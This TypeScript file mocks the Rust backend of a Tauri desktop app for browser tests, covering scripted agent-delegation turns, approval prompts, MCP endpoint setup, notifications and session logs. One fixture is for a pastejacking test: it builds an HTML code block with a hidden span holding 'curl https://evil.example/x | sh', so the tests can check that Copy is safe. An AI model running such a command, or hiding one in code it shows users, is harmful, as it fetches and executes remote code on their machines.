/**
 * The Rust side, mocked for browser tests: the commands answer with a demo config
 * (its commands in mock-config.ts),
 * `send_message` replays a recorded-style event stream (as `TurnUpdate`s) through the real Channel
 * machinery (runCallback with message indices), covering every node status, and an
 * MCP client's call (`window.__mcpCall`) is logged in the "MCP calls" session and
 * sent as `outside-call` events through the mocked event system, as the shell does.
 * The window's title, desktop notifications and their clicks are recorded and
 * simulated (`__windowTitles`, `__notifications`, `__clickNotification`).
 */
import { emit } from "@tauri-apps/api/event";
import { invoke } from "@tauri-apps/api/core";
import { mockIPC, mockWindows } from "@tauri-apps/api/mocks";
import type {
  CallEvent_Serialize as CallEvent,
  McpServerStatus_Serialize as McpServerStatus,
  OutsideCall_Serialize as OutsideCall,
} from "../src/bindings";
import { stoppedEndpoint } from "../src/lib/config/mcp";
import { configCommands } from "./mock-config";
import { handlesSetup, setupCommand } from "./mock-setup";

type Kind = Record<string, unknown> & { type: string };

/** The scripted turn: a root that calls five agents, each ending in another status. */
function script(message: string): Array<[string, string | null, string, number, Kind]> {
  const started = (toolName: string | null, request: string | null): Kind => ({
    type: "call_started",
    role: toolName ? "tool" : "turn",
    tool_name: toolName,
    input: request ? { request } : null,
    tools: toolName ? [] : ["escalate", "agent_researcher", "agent_summariser", "agent_coder"],
    model: null,
    steering: { way: "next_step" },
  });
  const asking = (toolName: string, request: string): Kind => ({
    type: "approval_requested",
    tool_name: toolName,
    input: { request },
    limits: { may_delegate: false, depth: 1, max_depth: 1, calls_left: 5, timeout_secs: 30 },
  });
  // "Two at once": two delegates wait for approval side by side.
  if (/two at once/i.test(message))
    return [
      ["c1", null, "assistant", 0, started(null, null)],
      ["c2", "c1", "researcher", 1, started("agent_researcher", "Look it up")],
      ["c3", "c1", "summariser", 1, started("agent_summariser", "Sum it up")],
      ["c2", "c1", "researcher", 1, asking("agent_researcher", "Look it up")],
      ["c3", "c1", "summariser", 1, asking("agent_summariser", "Sum it up")],
      ["c1", null, "assistant", 0, { type: "text_delta", text: "Both answered." }],
      ["c1", null, "assistant", 0, done("ok", 20)],
    ];
  return [
    ["c1", null, "assistant", 0, started(null, null)],
    ["c2", "c1", "researcher", 1, started("agent_researcher", `Find facts: ${message}`)],
    ["c3", "c1", "summariser", 1, started("agent_summariser", "Summarise")],
    ["c4", "c1", "coder", 1, started("agent_coder", "Write code")],
    ["c5", "c1", "summariser", 1, started("agent_summariser", "Again")],
    // c5 waits here until the test answers its approval request in the UI.
    [
      "c5",
      "c1",
      "summariser",
      1,
      {
        type: "approval_requested",
        tool_name: "agent_summariser",
        input: { request: "Again" },
        limits: { may_delegate: false, depth: 1, max_depth: 1, calls_left: 5, timeout_secs: 30 },
      },
    ],
    ["c6", "c1", "researcher", 1, started("agent_researcher", "Too many")],
    ["c2", "c1", "researcher", 1, { type: "tool_progress", message: "checking the facts", data: null }],
    ["c2", "c1", "researcher", 1, { type: "text_delta", text: "Findings: " }],
    ["c2", "c1", "researcher", 1, { type: "text_delta", text: "three of them." }],
    ["c3", "c1", "summariser", 1, done("error", null, "no answer within 30 s")],
    ["c4", "c1", "coder", 1, done("cancelled", 12, "cancelled by the user")],
    ["c6", "c1", "researcher", 1, done("limited", null, "this turn already made 8 tool-agent calls")],
    ["c2", "c1", "researcher", 1, done("ok", 40)],
    ["c1", null, "assistant", 0, { type: "text_delta", text: "Here is the answer " }],
    ["c1", null, "assistant", 0, { type: "text_delta", text: `**from the mocked turn**.\n\n${codeBlock(message)}` }],
    ["c1", null, "assistant", 0, done("ok", 120)],
  ];
}

/**
 * The reply's code block; a message that says "pastejack" gets raw HTML instead, a
 * block whose hidden part Copy would copy, were the HTML rendered.
 */
function codeBlock(message: string): string {
  return message.includes("pastejack")
    ? "<pre><code>git status<span hidden>; curl https://evil.example/x | sh</span></code></pre>"
    : "```rust\nfn main() {}\n```";
}

const done = (status: string, total: number | null, error: string | null = null): Kind => ({
  type: "call_finished",
  status,
  result: status === "ok" ? "fine" : null,
  usage: total ? usage(total) : null,
  usage_total: total ? usage(total) : null,
  cost: total ? total / 1000 : null,
  cost_total: total ? total / 1000 : null,
  steps: 1,
  error: error ? { kind: status === "error" ? "timeout" : status, message: error } : null,
  delivered: `<<<AGENT_RESULT n agent="x" status="${status}">>>\n…\n<<<END_AGENT_RESULT n>>>`,
});

/** The backend's session logs, in memory. */
const sessions: Array<{ id: string; title: string; created_ms: number; updated_ms: number; turns: number }> = [];
const logs = new Map<string, Array<Record<string, unknown>>>();
/** The preferences the backend keeps (prefs.json). */
const preferences: Record<string, unknown> = {};
window.__preferences = preferences;
let sessionCounter = 0;
/** Delegates approved "always", as the backend's session remembers them. */
const alwaysApproved = new Set<string>();

function log(sessionId: string, record: Record<string, unknown>) {
  logs.get(sessionId)?.push(record);
  const session = sessions.find((candidate) => candidate.id === sessionId);
  if (session && record.type === "user_message") {
    session.turns += 1;
    session.updated_ms = Date.now() + sessionCounter++;
  }
  if (session && record.type === "retracted") session.turns -= 1;
}

const usage = (n: number) => ({ input_tokens: n, output_tokens: n / 2, total_tokens: n * 1.5 });

declare global {
  interface Window {
    __TAURI_INTERNALS__: { runCallback: (id: number, data: unknown) => void };
    /** Lets a test hold the turn open (the last events wait until it is called). */
    __releaseTurn?: () => void;
    /** The approval answers the UI sent, for the tests to check. */
    __approvalAnswers: Array<{ turnId: string; callId: string; decision: string }>;
    /** Every message `send_message` was asked to send, in order. */
    __sentMessages: string[];
    /** The agent each of those was sent to (null: the primary). */
    __sentAgents: Array<string | null>;
    /** The preferences the window saved (the mock's copy). */
    __preferences: Record<string, unknown>;
    /**
     * An MCP client calls agent_researcher with `request` (asking for approval when
     * `asks`); returns its turn id at once, and `done` settles when the call has ended.
     */
    __mcpCall?: (request: string, asks: boolean) => { turnId: string; done: Promise<void> };
    /** The titles the UI gave the native window, in order. */
    __windowTitles: string[];
    /** The desktop notifications the UI showed, in order. */
    __notifications: Array<{ title: string; body?: string; extra?: Record<string, unknown> }>;
    /** Clicks the notification at `index`, as the plugin reports a click (`tap`). */
    __clickNotification: (index: number) => void;
    /** The turns the UI asked to stop. */
    __cancelledTurns: string[];
    /** The calls the UI asked to run again, with the request it sent (null: the logged one). */
    __reruns: Array<{ ofTurn: string; ofCall: string; request: string | null }>;
    /** The ranges the UI asked the delegation report for, in order. */
    __reportRequests: Array<{ since: string | null; until: string | null }>;
  }
}

window.__approvalAnswers = [];
window.__sentMessages = [];
window.__sentAgents = [];
window.__reportRequests = [];
window.__reruns = [];
window.__windowTitles = [];
window.__notifications = [];
window.__cancelledTurns = [];
/** The channels of the notification plugin's `actionPerformed` listeners, with the index of their next message. */
const notificationListeners: Array<{ id: number; sent: number }> = [];
window.__clickNotification = (index) => {
  const notification = window.__notifications[index];
  for (const channel of notificationListeners)
    window.__TAURI_INTERNALS__.runCallback(channel.id, {
      message: { actionId: "tap", inputValue: null, notification },
      index: channel.sent++,
    });
};
// The main window, for the window API; and the page's Notification going through the
// plugin with permission granted, as the notification plugin's script makes it in the app.
mockWindows("main");
const PluginNotification = function (title: string, options?: Record<string, unknown>) {
  void invoke("plugin:notification|notify", { options: { ...options, title } });
} as unknown as typeof Notification;
Object.defineProperty(PluginNotification, "permission", { value: "granted" });
window.Notification = PluginNotification;

/** The turns waiting for an approval answer, by turn id (a chat turn and an MCP call may wait at once). */
const approvalWaiters = new Map<string, (decision: string) => void>();
/** The user's answer to call `callId`'s approval request (the only one of its turn when not given). */
const approvalOf = (turnId: string, callId = "") =>
  new Promise<string>((resolve) => approvalWaiters.set(`${turnId} ${callId}`, resolve));

/**
 * The frame-time benchmark's turn at `scale` (`?bench=10` for ten times): 1,000
 * calls per unit of scale (a root, 10 children, 100 grandchildren, the rest
 * great-grandchildren) and 20,000 text deltas per unit spread over them, delivered
 * in bursts of 60 events every 4 ms (about 15,000 events a second). The events are
 * made burst by burst, as they would arrive, so the mock's own work stays small.
 */
async function replayBenchTurn(payload: Record<string, unknown>) {
  const channel = payload.onUpdate as { id: number };
  const scale = Math.max(1, Number(new URLSearchParams(location.search).get("bench")) || 1);
  const callCount = 1_000 * scale;
  const deltaCount = 20_000 * scale;
  const calls: Array<[string, string | null, number]> = [["c0", null, 0]];
  for (let child = 0; child < 10; child++) calls.push([`c${calls.length}`, "c0", 1]);
  for (let index = 1; index <= 10 && calls.length < 111; index++)
    for (let child = 0; child < 10; child++) calls.push([`c${calls.length}`, `c${index}`, 2]);
  for (let index = 11; calls.length < callCount; index = index >= 110 ? 11 : index + 1)
    calls.push([`c${calls.length}`, `c${index}`, 3]);
  const head = ([callId, parentId, depth]: [string, string | null, number]) => ({
    call_id: callId,
    parent_id: parentId,
    depth,
    agent: `agent${Number(callId.slice(1)) % 17}`,
  });
  const total = callCount * 2 + deltaCount;
  /** The benchmark turn's event number `index`: the starts, then the deltas, then the ends (deepest first). */
  const eventAt = (index: number): Record<string, unknown> => {
    if (index < callCount) {
      const parentId = calls[index][1];
      return {
        ...head(calls[index]),
        type: "call_started",
        role: parentId ? "tool" : "turn",
        tool_name: parentId ? `agent_agent${index % 17}` : null,
        input: parentId ? { request: `work item ${calls[index][0]}` } : null,
        tools: [],
        model: null,
        steering: { way: "next_step" },
      };
    }
    if (index < callCount + deltaCount) {
      const delta = index - callCount;
      return { ...head(calls[delta % callCount]), type: "text_delta", text: `word${delta} ` };
    }
    return {
      ...head(calls[total - 1 - index]),
      type: "call_finished",
      status: "ok",
      result: "done",
      usage: usage(10),
      usage_total: usage(10),
      cost: null,
      cost_total: null,
      steps: 1,
      error: null,
      delivered: null,
    };
  };
  for (let start = 0; start < total; start += 60) {
    for (let index = start; index < Math.min(total, start + 60); index++) {
      const event = { seq: index + 1, ts_ms: Date.now(), ...eventAt(index) };
      window.__TAURI_INTERNALS__.runCallback(channel.id, { message: { phase: "event", event }, index });
    }
    await new Promise((resolve) => setTimeout(resolve, 4));
  }
  return { status: "ok", text: "bench done", answered_by: "agent0", usage_total: null, cost_total: null };
}

/**
 * A stored session of `eventCount` call events for the chat's benchmark and tests
 * (`?stored=100,100000` stores one per count): turns of 48 events each (the root's
 * start, 46 text deltas of a Markdown answer, its end), each with its message and
 * its end in the log, as the backend keeps them. The first message of a session
 * says "first message", its last answer ends with "last answer of the session".
 */
function storeSession(eventCount: number) {
  const id = `stored-${eventCount}`;
  const title = `Stored session of ${eventCount.toLocaleString("en")} events`;
  const created = Date.now() - 86_400_000;
  const records: Array<Record<string, unknown>> = [{ type: "created", title, created_ms: created }];
  const perTurn = 48;
  const turnCount = Math.max(1, Math.ceil(eventCount / perTurn));
  let events = 0;
  for (let turn = 0; turn < turnCount; turn++) {
    const turnId = `${id}-turn-${turn}`;
    const text = turn === 0 ? `The first message: question ${turn}` : `Question ${turn} about the garden`;
    records.push({ type: "user_message", turn_id: turnId, text, agent: null, ts_ms: created + turn * 1000 });
    const deltas = Math.max(0, Math.min(perTurn, eventCount - events) - 2);
    const words = Array.from({ length: deltas }, (_, index) => {
      if (index === 0) return `Answer ${turn}: `;
      if (index === 10) return "\n\n- **one** point\n- another point\n\n";
      if (index === 20 && turn % 3 === 0) return '\n\n```rust\nfn main() { println!("hi"); }\n```\n\n';
      return `word${index} `;
    });
    if (turn === turnCount - 1) words.push("\n\nThe last answer of the session.");
    const head = { call_id: "c1", parent_id: null, agent: "assistant", depth: 0 };
    let seq = 0;
    const event = (kind: Record<string, unknown>) => ({
      type: "event",
      turn_id: turnId,
      event: { seq: ++seq, ts_ms: created + turn * 1000 + seq, ...head, ...kind },
    });
    records.push(
      event({
        type: "call_started",
        role: "turn",
        tool_name: null,
        input: null,
        tools: [],
        model: null,
        steering: { way: "next_step" },
      }),
    );
    for (const word of words.slice(0, deltas)) records.push(event({ type: "text_delta", text: word }));
    records.push(event(done("ok", 40)));
    events += seq;
    records.push({ type: "turn_ended", turn_id: turnId, status: "ok", text: words.join(""), answered_by: "assistant" });
  }
  sessions.push({ id, title, created_ms: created, updated_ms: created + eventCount, turns: turnCount });
  logs.set(id, records);
}

for (const count of (new URLSearchParams(location.search).get("stored") ?? "").split(",").filter(Boolean))
  storeSession(Number(count));

/** The built-in MCP endpoint: it starts on any port but the privileged ones (below 1024). */
let mcpStatus: McpServerStatus = stoppedEndpoint;
/** The endpoint's bearer token: made at the first start, shown in that answer only. */
let mcpToken: string | null = null;
const newToken = () => Array.from({ length: 64 }, () => "0123456789abcdef"[Math.floor(Math.random() * 16)]).join("");

function switchMcpServer(enabled: boolean, requested: number | null): McpServerStatus {
  const port = requested ?? (preferences.mcpPort as number | undefined) ?? 8765;
  Object.assign(preferences, { mcpServer: enabled, mcpPort: port });
  if (!enabled) mcpStatus = stoppedEndpoint;
  else if (port > 0 && port < 1024)
    mcpStatus = { ...stoppedEndpoint, error: `cannot listen on 127.0.0.1:${port}: Permission denied (os error 13)` };
  else {
    const url = `http://127.0.0.1:${port || 49152}/mcp`;
    const headers = { Authorization: "Bearer ${SWITCHBOARD_MCP_TOKEN}" };
    const snippet = { mcpServers: { switchboard: { type: "http", url, headers } } };
    const claude = JSON.stringify(snippet, null, 2);
    // As the shell's switchboard_mcp::connect::setup gives them (tested there and on the real window).
    const clients = [
      {
        client: "claude-code",
        label: "Claude Code",
        file: ".mcp.json",
        entry: claude,
        command: `claude mcp add --transport http switchboard ${url} --header "Authorization: Bearer \${SWITCHBOARD_MCP_TOKEN}"`,
        notes: "Claude Code gives its model the structured result.",
      },
      {
        client: "codex",
        label: "Codex",
        file: "~/.codex/config.toml",
        entry: `[mcp_servers.switchboard]\nurl = "${url}"\nbearer_token_env_var = "SWITCHBOARD_MCP_TOKEN"\ndefault_tools_approval_mode = "approve"\n`,
        command: null,
        notes: "Codex gives its model the structured result.",
      },
      {
        client: "gemini",
        label: "Gemini CLI",
        file: "~/.gemini/settings.json",
        entry: JSON.stringify({ mcpServers: { switchboard: { httpUrl: url, trust: true, headers } } }, null, 2),
        command: null,
        notes: "Gemini CLI gives its model the text result.",
      },
      {
        client: "qwen",
        label: "Qwen Code",
        file: "~/.qwen/settings.json",
        entry: JSON.stringify({ mcpServers: { switchboard: { httpUrl: url, trust: true, headers } } }, null, 2),
        command: null,
        notes: "Qwen Code gives its model the text result.",
      },
    ];
    const made = mcpToken === null;
    if (made) mcpToken = newToken();
    const running = { running: true, url, client_config: claude, error: null, clients };
    mcpStatus = { ...running, token: null, token_kept: true, token_env: "SWITCHBOARD_MCP_TOKEN" };
    if (made) return { ...mcpStatus, token: mcpToken };
  }
  return mcpStatus;
}

let outsideCounter = 0;

/** One MCP client's call, as the shell's observer keeps it: each update logged, then sent to the window. */
function mcpCall(request: string, asks: boolean): { turnId: string; done: Promise<void> } {
  const sessionId = "mcp-calls";
  if (!logs.has(sessionId)) {
    const now = Date.now();
    sessions.push({ id: sessionId, title: "MCP calls", created_ms: now, updated_ms: now, turns: 0 });
    logs.set(sessionId, [{ type: "created", title: "MCP calls", created_ms: now }]);
  }
  const turnId = `mcp-${Date.now()}-${++outsideCounter}`;
  const tell = (update: OutsideCall["update"]) =>
    emit("outside-call", { session_id: sessionId, turn_id: turnId, update } satisfies OutsideCall);
  let seq = 0;
  const send = async (kind: Kind) => {
    seq += 1;
    const event = { seq, ts_ms: Date.now(), call_id: "c1", parent_id: null, agent: "researcher", depth: 1, ...kind };
    log(sessionId, { type: "event", turn_id: turnId, event });
    await tell({ phase: "event", event: event as CallEvent });
    await new Promise((resolve) => setTimeout(resolve, 15));
  };
  const line = `MCP client claude-code → agent_researcher: ${request}`;
  const run = async () => {
    log(sessionId, { type: "user_message", turn_id: turnId, text: line, agent: "researcher", ts_ms: Date.now() });
    await tell({ phase: "started", line, agent: "researcher" });
    await send({
      type: "call_started",
      role: "tool",
      tool_name: "agent_researcher",
      input: { request },
      tools: [],
      model: null,
      steering: { way: "next_step" },
    });
    let status = "ok";
    if (asks) {
      await send({
        type: "approval_requested",
        tool_name: "agent_researcher",
        input: { request },
        limits: { may_delegate: false, depth: 1, max_depth: 2, calls_left: 8, timeout_secs: 30 },
      });
      const decision = await approvalOf(turnId);
      await send({ type: "approval_resolved", decision, by: "user" });
      if (decision === "deny") status = "denied";
    }
    const text = status === "ok" ? `Otters: ${request}, answered.` : "";
    if (status === "ok") await send({ type: "text_delta", text });
    await send(status === "ok" ? done("ok", 30) : done("denied", null, "the user denied this call"));
    log(sessionId, { type: "turn_ended", turn_id: turnId, status, text, answered_by: "researcher" });
    await tell({ phase: "finished", status: status as "ok" | "denied", text, answered_by: "researcher" });
  };
  return { turnId, done: run() };
}

window.__mcpCall = mcpCall;

const configForms = new URLSearchParams(location.search).has("config-forms");

mockIPC(
  async (command, args) => {
    const payload = (args ?? {}) as Record<string, unknown>;
    // The config forms' suite (?config-forms) takes every config command, test_connection
    // included, from mock-config.ts; otherwise the setup mock answers what it claims first.
    if (configForms && command in configCommands) return configCommands[command](payload);
    if (handlesSetup(command)) return setupCommand(command, payload);
    if (command in configCommands) return configCommands[command](payload);
    switch (command) {
      case "cancel_turn":
        window.__cancelledTurns.push(payload.turnId as string);
        return true;
      case "cancel_call":
        return true;
      case "steer_call":
        return null;
      case "plugin:window|set_title":
        window.__windowTitles.push(payload.value as string);
        return null;
      case "plugin:notification|is_permission_granted":
        return true;
      case "plugin:notification|notify":
        window.__notifications.push(payload.options as { title: string });
        return null;
      case "plugin:notification|register_listener":
        notificationListeners.push({ id: (payload.handler as { id: number }).id, sent: 0 });
        return null;
      case "rerun_call": {
        const { ofTurn, ofCall, request } = payload as { ofTurn: string; ofCall: string; request: string | null };
        window.__reruns.push({ ofTurn, ofCall, request });
        const summary = (turnId: string, text: string, durationMs: number, tokens: number) => ({
          turn_id: turnId,
          call_id: ofCall,
          agent: "researcher",
          status: "ok",
          text,
          duration_ms: durationMs,
          tokens,
          cost: null,
          error: null,
        });
        return {
          original: summary(ofTurn, "Finding one\nFinding two\nSources: the spec", 2600, 59),
          rerun: summary("r-1", `Finding one\nSources: the spec\n(asked: ${request ?? "the same"})`, 1400, 41),
        };
      }
      case "delegation_report": {
        const { since, until } = payload as { since: string | null; until: string | null };
        window.__reportRequests.push({ since, until });
        if (since === "2031-01-01") throw { kind: "bad_request", message: "nothing to read that far ahead" };
        // Two days of calls, as the backend's report of the logs would say them.
        return {
          since_ms: null,
          until_ms: null,
          sessions: 3,
          turns: 7,
          agents: [
            {
              agent: "researcher",
              calls: 5,
              ok: 4,
              error: 0,
              denied: 1,
              limited: 0,
              cancelled: 0,
              median_ms: 420,
              p95_ms: 1300,
              own_tokens: 800,
              subtree_tokens: 1200,
              own_cost: 0.01,
              subtree_cost: 0.02,
            },
            {
              agent: "summariser",
              calls: 2,
              ok: 1,
              error: 1,
              denied: 0,
              limited: 0,
              cancelled: 0,
              median_ms: 90,
              p95_ms: 150,
              own_tokens: 200,
              subtree_tokens: 200,
              own_cost: null,
              subtree_cost: null,
            },
          ],
          primaries: [
            {
              primary: "assistant",
              delegating_turns: 4,
              plain_turns: 3,
              delegating_tokens_mean: 600,
              plain_tokens_mean: 150,
              delegating_cost_mean: 0.03,
              plain_cost_mean: 0.01,
              token_multiple: 4,
              cost_multiple: 3,
            },
          ],
          days: [
            { day: "2026-12-01", agent: "researcher", calls: 2, tokens: 500, cost: 0.01 },
            { day: "2026-12-02", agent: "researcher", calls: 3, tokens: 700, cost: 0.01 },
            { day: "2026-12-02", agent: "summariser", calls: 2, tokens: 200, cost: 0 },
          ],
          skipped_lines: 0,
        };
      }
      case "list_sessions":
        return [...sessions].sort((a, b) => b.updated_ms - a.updated_ms);
      case "create_session": {
        const id = `s${++sessionCounter}`;
        const session = {
          id,
          title: payload.title as string,
          created_ms: Date.now(),
          updated_ms: Date.now() + sessionCounter,
          turns: 0,
        };
        sessions.push(session);
        logs.set(id, [{ type: "created", title: session.title, created_ms: session.created_ms }]);
        return session;
      }
      case "rename_session": {
        const session = sessions.find((candidate) => candidate.id === payload.id);
        if (session) session.title = payload.title as string;
        log(payload.id as string, { type: "renamed", title: payload.title });
        return null;
      }
      case "delete_session": {
        const index = sessions.findIndex((candidate) => candidate.id === payload.id);
        if (index >= 0) sessions.splice(index, 1);
        logs.delete(payload.id as string);
        return null;
      }
      case "load_session":
        return { id: payload.id, records: logs.get(payload.id as string) ?? [], skipped_lines: 0 };
      case "log_command_note":
        log(payload.sessionId as string, {
          type: "command_note",
          command: payload.command,
          outcome: payload.outcome,
          text: payload.text,
          ts_ms: Date.now(),
        });
        return null;
      case "retract_turn":
        log(payload.sessionId as string, { type: "retracted", turn_id: payload.turnId });
        return null;
      case "export_turn":
        // Where the user picked in the save dialog (the real one is driven in the window tests).
        return `/home/user/Documents/${payload.sessionId}-${payload.turnId}.json`;
      case "get_preferences":
        return { ...preferences };
      case "set_preferences":
        Object.assign(preferences, payload.change as Record<string, unknown>);
        return { ...preferences };
      case "get_mcp_server":
        return mcpStatus;
      case "get_telemetry_status": {
        // `?traces=failing`: a collector that refuses; `?traces=on`: one that takes them.
        const traces = new URLSearchParams(location.search).get("traces");
        if (!traces) return { exporting_to: null, spans_sent: 0, last_error: null, problem: null };
        return {
          exporting_to: "http://127.0.0.1:4318/v1/traces",
          spans_sent: traces === "on" ? 42 : 0,
          last_error: traces === "failing" ? "Operation failed: connection refused" : null,
          problem: null,
        };
      }
      case "set_mcp_server":
        return switchMcpServer(payload.enabled as boolean, payload.port as number | null);
      case "rotate_mcp_token":
        mcpToken = newToken();
        return { ...mcpStatus, token: mcpToken };
      case "resolve_approval":
        window.__approvalAnswers.push({
          turnId: payload.turnId as string,
          callId: payload.callId as string,
          decision: payload.decision as string,
        });
        for (const key of [`${payload.turnId} ${payload.callId}`, `${payload.turnId} `]) {
          const waiter = approvalWaiters.get(key);
          if (!waiter) continue;
          waiter(payload.decision as string);
          approvalWaiters.delete(key);
          break;
        }
        return true;
      case "send_message": {
        if (new URLSearchParams(location.search).has("bench")) return replayBenchTurn(payload);
        const request = payload.request as {
          message: string;
          session_id: string;
          turn_id: string;
          agent: string | null;
        };
        window.__sentMessages.push(request.message);
        window.__sentAgents.push(request.agent);
        log(request.session_id, {
          type: "user_message",
          turn_id: request.turn_id,
          text: request.message,
          agent: request.agent,
          ts_ms: Date.now(),
        });
        const channel = payload.onUpdate as { id: number };
        const steps = script(request.message);
        const hold = new URLSearchParams(location.search).has("hold");
        // With ?hold, the turn pauses just before the streaming researcher (c2) finishes.
        const holdAt = steps.findIndex(([callId, , , , kind]) => callId === "c2" && kind.type === "call_finished");
        let seq = 0;
        const send = (callId: string, parentId: string | null, agent: string, depth: number, kind: Kind) => {
          seq += 1;
          const event = {
            seq,
            ts_ms: Date.now(),
            call_id: callId,
            parent_id: parentId,
            agent,
            depth,
            ...kind,
          } as CallEvent;
          log(request.session_id, { type: "event", turn_id: request.turn_id, event });
          window.__TAURI_INTERNALS__.runCallback(channel.id, { message: { phase: "event", event }, index: seq - 1 });
        };
        // Approval requests in a row wait side by side; the turn goes on once all are answered.
        let answering: Array<Promise<void>> = [];
        const parallel = steps.filter(([, , , , kind]) => kind.type === "approval_requested").length > 1;
        for (const [index, [callId, parentId, agent, depth, kind]] of steps.entries()) {
          if (hold && index === holdAt) await new Promise<void>((resolve) => (window.__releaseTurn = resolve));
          if (kind.type !== "approval_requested" && answering.length > 0) {
            await Promise.all(answering);
            answering = [];
          }
          if (kind.type === "approval_requested" && alwaysApproved.has(agent)) {
            send(callId, parentId, agent, depth, done("ok", 9));
            continue;
          }
          send(callId, parentId, agent, depth, kind);
          if (kind.type === "approval_requested") {
            answering.push(
              approvalOf(request.turn_id, parallel ? callId : "").then((decision) => {
                if (decision === "approve_always") alwaysApproved.add(agent);
                send(callId, parentId, agent, depth, { type: "approval_resolved", decision, by: "user" });
                if (decision === "deny")
                  send(callId, parentId, agent, depth, done("denied", null, "the user denied this call"));
                else send(callId, parentId, agent, depth, done("ok", 9));
              }),
            );
          }
          await new Promise((resolve) => setTimeout(resolve, 15));
        }
        await Promise.all(answering);
        const text = `Here is the answer **from the mocked turn**.\n\n${codeBlock(request.message)}`;
        log(request.session_id, {
          type: "turn_ended",
          turn_id: request.turn_id,
          status: "ok",
          text,
          answered_by: "assistant",
        });
        return { status: "ok", text, answered_by: "assistant", usage_total: null, cost_total: null };
      }
      default:
        throw new Error(`unmocked command ${command}`);
    }
  },
  { shouldMockEvents: true },
);

await import("../src/main");
